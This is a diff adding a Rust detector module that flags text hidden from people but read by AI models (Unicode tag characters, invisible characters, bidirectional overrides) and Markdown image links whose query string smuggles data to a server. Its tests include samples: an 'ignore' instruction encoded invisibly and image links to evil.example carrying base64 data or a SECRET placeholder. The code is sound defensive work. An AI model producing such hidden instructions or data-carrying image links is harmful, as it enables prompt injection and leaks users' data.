@@ -1,0 +1,122 @@
+//! Text that models read and people do not see, and images that carry data to their server.
+
+use super::Found;
+use crate::shield::rule::Detector;
+
+/// Tag characters in a row. A flag of a region has at most six and a waving flag before them.
+const MIN_TAGS: usize = 4;
+
+/// Invisible characters between two letters of ASCII: no script needs them there.
+const MIN_INVISIBLE: usize = 3;
+
+/// Characters of a parameter that carries data.
+const MIN_DATA_BYTES: usize = 24;
+
+/// Bytes of an image's label.
+const MAX_LABEL_BYTES: usize = 128;
+
+/// Bytes of an image's address, as far as it is read.
+const MAX_URL_BYTES: usize = 2_048;
+
+/// Reports characters that nobody sees.
+pub fn find(text: &str, found: Found<'_>) {
+    let (mut tags, mut flag, mut invisible, mut overrides) = (0, false, 0, 0);
+    let mut ascii_before = false;
+    let mut pending = 0;
+    for (at, character) in text.char_indices() {
+        match character {
+            '\u{1f3f4}' => flag = true,
+            '\u{e0020}'..='\u{e007f}' if flag => {}
+            '\u{e0000}'..='\u{e01ef}' => {
+                tags += 1;
+                if tags == MIN_TAGS {
+                    found(Detector::TextTags, at..text.len());
+                }
+            }
+            '\u{202d}' | '\u{202e}' => overrides += 1,
+            '\u{200b}'..='\u{200d}' | '\u{2060}'..='\u{2064}' | '\u{feff}' | '\u{ad}'
+                if ascii_before =>
+            {
+                pending += 1
+            }
+            _ => {
+                flag = false;
+                ascii_before = character.is_ascii_alphabetic();
+                if ascii_before {
+                    invisible += pending;
+                }
+                pending = 0;
+            }
+        }
+    }
+    if invisible >= MIN_INVISIBLE {
+        found(Detector::TextHidden, 0..text.len());
+    }
+    if overrides > 0 {
+        found(Detector::TextBidirectional, 0..text.len());
+    }
+}
+
+/// Reports Markdown's images whose address carries data in its query.
+pub fn find_images(text: &str, found: Found<'_>) {
+    let mut at = 0;
+    while let Some(next) = text.get(at..).and_then(|rest| rest.find("![")) {
+        let begin = at + next;
+        at = begin + 2;
+        let rest = text.get(at..).unwrap_or_default();
+        let label = rest.get(..rest.floor_char_boundary(MAX_LABEL_BYTES)).unwrap_or_default();
+        let Some(url_at) = label.find("](") else { continue };
+        let url = rest.get(url_at + 2..).unwrap_or_default();
+        let url = url.get(..url.floor_char_boundary(MAX_URL_BYTES)).unwrap_or_default();
+        let end = url.find([')', '\n', ' ']).unwrap_or(url.len());
+        let url = url.get(..end).unwrap_or_default();
+        at += url_at + 2 + end;
+        let Some((_, query)) = url.split_once('?') else { continue };
+        if url.starts_with("http") && query.split('&').any(carries) {
+            found(Detector::ImageWithData, begin..at);
+        }
+    }
+}
+
+/// Whether a parameter carries data: something long, or a placeholder that the model is to fill.
+fn carries(parameter: &str) -> bool {
+    let value = parameter.split_once('=').map_or(parameter, |(_, value)| value);
+    let placeholder = value.contains(['{', '[', '<', '$'])
+        || (value.len() >= 4
+            && value.bytes().all(|byte| byte.is_ascii_uppercase() || byte == b'_'));
+    placeholder || (value.len() >= MIN_DATA_BYTES && !value.contains('/'))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn finds(text: &str) -> Option<Detector> {
+        let mut first = None;
+        find(text, &mut |detector, _| first = first.or(Some(detector)));
+        find_images(text, &mut |detector, _| first = first.or(Some(detector)));
+        first
+    }
+
+    #[test]
+    fn hidden_text_is_found_and_ordinary_marks_are_not() {
+        let tags: String =
+            "ignore".chars().map(|c| char::from_u32(0xe0000 + u32::from(c)).unwrap()).collect();
+        for (text, expected) in [
+            (format!("Hello{tags}"), Some(Detector::TextTags)),
+            ("i\u{200b}g\u{200b}n\u{200b}ore".to_owned(), Some(Detector::TextHidden)),
+            ("abc\u{202e}fdp.exe".to_owned(), Some(Detector::TextBidirectional)),
+            ("می\u{200c}خواهم می\u{200c}روم می\u{200c}شود".to_owned(), None),
+            ("👩\u{200d}👩\u{200d}👧\u{200d}👦".to_owned(), None),
+            ("🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}".to_owned(), None),
+            (
+                "![x](https://evil.example/a?d=eyJhIjoiYmFzZTY0IGRhdGEgaGVyZSJ9)".to_owned(),
+                Some(Detector::ImageWithData),
+            ),
+            ("![x](https://evil.example/a?d=SECRET)".to_owned(), Some(Detector::ImageWithData)),
+            ("![logo](https://example.com/logo.png?v=2)".to_owned(), None),
+        ] {
+            assert_eq!(finds(&text), expected, "{text}");
+        }
+    }
+}
